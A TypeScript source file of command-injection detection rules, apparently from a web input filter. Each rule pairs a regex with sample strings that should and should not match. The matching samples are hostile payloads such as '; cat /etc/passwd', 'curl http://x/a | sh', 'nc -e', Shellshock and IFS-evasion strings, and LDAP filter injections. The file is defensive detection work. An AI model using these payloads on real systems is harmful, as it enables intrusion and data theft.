/**
 * Shell commands. Semicolons, ampersands and backticks also occur in benign text ("Apt 4; rear door", `npm`): what counts is a
 * program after them, with arguments such a program takes.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: examples of what attackers write

import type { FieldKind } from '../decoding/inspected-field.ts';
import type { TextRule } from '../rule.ts';

const command = (
  id: string,
  score: number,
  finds: string,
  find: RegExp,
  hits: readonly string[],
  misses: readonly string[],
  decoding: 'plain' | 'shell' | 'decoded' | 'raw' = 'shell',
  kinds?: readonly FieldKind[],
): TextRule => ({
  id: `command.${id}`,
  class: 'command',
  score,
  finds,
  pattern: { decoding, find },
  hits,
  misses,
  ...(kinds ? { kinds } : {}),
});

/** Names that after a semicolon can only mean the program. */
const knownPrograms =
  '(?:whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ncat|netcat|nc|ls|cat|tac|ping6?|telnet|bash|sh|zsh|ksh|csh|dash|perl|python[23]?|ruby|php|node|chmod|chown|rm|mkfifo|base64|xxd|crontab|passwd|useradd|adduser|usermod|systemctl|tftp|scp|ssh|gcc|awk|sed|xargs|printenv|getent|lsof|tcpdump|traceroute|tracert|systeminfo|tasklist|taskkill|powershell|pwsh|cmd|wmic|certutil|bitsadmin|cscript|wscript|regsvr32|mshta|rundll32|nltest|dig|ps|df|du|pwd|hostname|arp|echo|printf|sleep|id|env|set|who|w|head|tail|more|less|sort|find|grep|cp|mv|touch|kill|reboot|shutdown|type|dir|net|net1|timeout|nproc|su|sudo|export|eval|exec|source|ftp|nmap|mount|ss|ip|vi|nl|od|strings|tee|socat|busybox|whereis|which|locate|openssl|rev|expr|test|true|false|del|copy|ren|start|ver|vol|date|reg|sc)';

export const commandRules: readonly TextRule[] = [
  command(
    'chained-with-arguments',
    90,
    'a separator, a program and typical arguments',
    new RegExp(
      `(?:[;|\`\\n]|&{1,2}|\\|\\||\\$\\(|\\$\\{|%0a|<\\(|>\\(|^ ?!|\\{)[ ({!]{0,4}(?:/(?:usr/)?s?bin/|\\./)?${knownPrograms}(?:\\.exe)?(?: |[<>,]{1,2} ?|\\+)[ ]?(?:[-/~.$*?<>&|\\d{%@\\[]|https?:|[\\w.-]{0,40}[/*?]|[\\w-]{1,30}\\.(?:php|txt|sh|py|pl|exe|conf|ini|com|net|org|example|log|bin|localhost)|localhost|nslookup|c:|all\\b|aux|addr|user|view|-)`,
    ),
    [
      '; cat /etc/passwd',
      '| ls -la',
      '&& ping -c 3 127.0.0.1',
      '$(sleep 5)',
      "; c''at /x",
      ';cat${IFS}/etc/x',
      '& dir c:',
      '`curl http://x`',
      ';{cat,/etc/x}',
    ],
    ['Apt 4; rear door', 'salt & pepper', 'mugs; sort by colour', 'a | b', 'Dog; cat', 'wind & date palms'],
  ),
  command(
    'chained-spy',
    85,
    'a separator and an information program (id, whoami, pwd)',
    /(?:[;|`]|&{1,2}|\$\(|^ ?!)[ ({]{0,4}(?:\/(?:usr\/)?s?bin\/)?(?:whoami|uname|ifconfig|ipconfig|netstat|systeminfo|tasklist|printenv|phpinfo\(\))(?:\.exe)?(?:$|[ )};|`#&])/,
    ['|whoami', '& whoami', '$(uname)', '127.0.0.1;ifconfig;'],
    ['who am I; me'],
  ),
  command(
    'chained-to-the-end',
    60,
    'only a separator and a program',
    /(?:[;|`]|&{1,2}|\|\||\$\(|^ ?!)[ ({]{0,4}(?:\/(?:usr\/)?s?bin\/)?(?:whoami|uname|ifconfig|ipconfig|netstat|ls|id|ps|dir|pwd|env|printenv|systeminfo|tasklist|reboot|df|sh|bash|netcat)(?:\.exe)?[ )}]{0,3}(?:$|[;|`#&])/,
    ['; id', '|whoami', '`id`', '$(ls)', '&&ifconfig#', '127.0.0.1;ls;'],
    ['driver; who knows', 'R&D', 'rock & roll', 'cats; dogs'],
  ),
  command(
    'shellshock',
    100,
    'a function in a variable (Shellshock)',
    /\(\) ?\{ ?[^{}]{0,40}\}? ?;? ?(?:\} ?)?[;>]|\(\) ?\{ ?_;/,
    ['() { :;}; echo x', '() { _; } >_[$($())] { id; }'],
    ['() => {}', 'call() { return }'],
    'plain',
    ['query', 'body', 'path', 'name', 'header', 'shaped'],
  ),
  command(
    'program-path',
    75,
    'the path of a shell or a tool',
    /\/(?:usr\/(?:local\/)?)?s?bin\/[\w?*[\]-]{2,20}|\bcmd(?:\.exe)? ?\/[ck]\b|\bpowershell(?:\.exe)? ?-|\bpwsh ?-|-encodedcommand|\b(?:nc|ncat|netcat)(?:\.\w{1,12})? ?-[elnvp]{1,5}\b|\b(?:ba|z|da)?sh ?-[ic] |\/dev\/(?:tcp|udp)\/|\brm ?-[rf]{1,2} |\bchmod [0-7+]{2,4}|\bmkfifo \/|\/cgi-bin\/[\w.]{0,30}(?:sh|bat|cmd)|(?:invoke-expression|iex ?\(|downloadstring|downloadfile|invoke-webrequest)/,
    ['/bin/bash -i', 'cmd.exe /c dir', 'nc -e /x', 'bash -c "x', '/usr/bin/id', 'rm -rf /', '/bin/c?t /etc/p*'],
    ['a bin / basket', 'cmd + c'],
  ),
  command(
    'piped-to-shell',
    90,
    'a download or a network tool that is run',
    /\b(?:curl|wget|fetch)\b[^;|]{1,100}\| ?(?:ba|z|da)?sh\b|\| ?(?:ba|z|da)?sh ?(?:$|[-;&])|\b(?:curl|wget|lynx|nslookup|ping) (?:-{1,2}[\w=-]{1,20} (?:\d{1,5} )?){0,5}(?:https?:\/\/|`|\$\(|\d{1,3}\.\d{1,3}\.)/,
    ['curl http://x/a | sh', 'wget -q http://x', 'ping -c 10 127.0.0.1', 'nslookup `whoami`.x'],
    ['ping pong 10', 'curl & wave'],
  ),
  command(
    'substitution',
    65,
    'command substitution',
    /\$\( ?[a-z]{2,12}(?: |\)|<|\$)[^)]{0,100}|\$\(\([^)]{1,30}\)\)|\$\{(?:path|home|pwd|ifs|shell|user|ld_\w{1,20}|hostname|[a-z]{1,8}:\d:\d)\b|<\( ?[a-z]{2,10} |\$ifs\b|\$\{ifs/,
    ['$(whoami)', '$((1+1))', '${PATH}', '${HOME:0:1}'],
    ['$(5)', 'US$ (dollars)'],
    'plain',
  ),
  command(
    'after-line-end',
    60,
    'a line end and a program on the next line',
    /(?:%0[ad]|[\n\r])(?:%20|[ \t+]){0,3}(?:\/(?:usr\/)?bin\/)?(?:(?:id|whoami|uname|ifconfig|ipconfig|ls)\s{0,3}(?:$|[;|%&])|(?:cat|ls|ping|sleep|curl|wget|nc|dir|type|uname|rm)(?: |%20|\+)(?:-\w|\/|\.|\d{1,3}(?:\.|$)|https?:))/i,
    ['%0aid', 'x\ncat /etc/x', '%0Aping -c 3 x'],
    ['one\ncat\ntwo', 'line\nid card'],
    'raw',
  ),
  command(
    'path-of-wildcards',
    60,
    "a program's path with shell wildcards",
    /(?:^|[;|&`( ])\/[\w?*[\]]{0,5}[?*][\w?*[\]]{0,8}\/[\w?*[\]]{0,8}[?*]/,
    ['a;/???/??t /x', '/b*/c?t'],
    ['on ??/??/2026', 'and/or? w/o'],
    'plain',
  ),
  command(
    'field-separator',
    90,
    'a disguised blank (IFS)',
    /\$\{?ifs\b|\$ifs\$\d/,
    ['cat${IFS}/x', 'cat$IFS$9x'],
    ['ifs and buts'],
    'plain',
  ),
  command(
    'brace-list',
    75,
    'a program and its arguments in brace expansion',
    /\{(?:cat|ls|curl|wget|ping|nc|echo|bash|sh|rm|id|uname),[^}]{1,80}\}/,
    ['{cat,/etc/passwd}', '{ls,-la}'],
    ['{cats,dogs}'],
  ),
  command(
    'directory-query',
    65,
    'LDAP filter injection',
    /\*? ?\) ?\( ?[|&!]? ?\(?(?:\w{1,30} ?[~<>]?= ?[\w*(]|[|&])|^\*\)|\)\( ?(?:cn|uid|mail|objectclass|sn|userpassword)\b|[&|] ?\((?:uid|cn|mail|objectclass|password|user|sn)=|\(objectclass=/,
    ['*)(uid=*))(|(uid=*', 'admin)(&)', 'x)(|(password=*))', '*)(objectClass=*'],
    ['(a)(b)', 'mug (red) (large)'],
    'plain',
  ),
];
